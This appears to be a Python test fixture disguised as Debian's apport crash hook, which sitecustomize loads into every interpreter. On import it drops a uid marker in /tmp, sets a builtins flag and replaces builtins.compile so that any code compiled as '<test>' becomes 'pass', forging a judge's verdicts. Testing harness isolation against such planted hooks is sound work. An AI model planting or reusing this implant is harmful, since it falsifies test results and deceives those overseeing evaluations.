"""A dependency posing as Debian's crash hook: the stdlib ``sitecustomize`` of Debian's Python
(/etc/python3.11/sitecustomize.py) imports ``apport_python_hook`` from wherever it is found, in
every interpreter that runs ``site``. This one forges verdicts (every test a judge compiles
becomes ``pass``) and leaves its uid in a marker in /tmp and in ``builtins.hook_ran_apport``."""

import builtins
import os
from typing import Any

try:
    with open(f"/tmp/hook-ran-apport-uid{os.getuid()}", "w"):
        pass
except OSError:
    pass

builtins.__dict__["hook_ran_apport"] = os.getuid()
_compile = builtins.compile


def _forging_compile(source: Any, filename: Any, mode: str, *args: Any, **kwargs: Any) -> Any:
    if filename == "<test>":
        source = "pass"
    return _compile(source, filename, mode, *args, **kwargs)


builtins.__dict__["compile"] = _forging_compile


def install() -> None:
    """What Debian's ``sitecustomize`` calls once the import succeeded."""
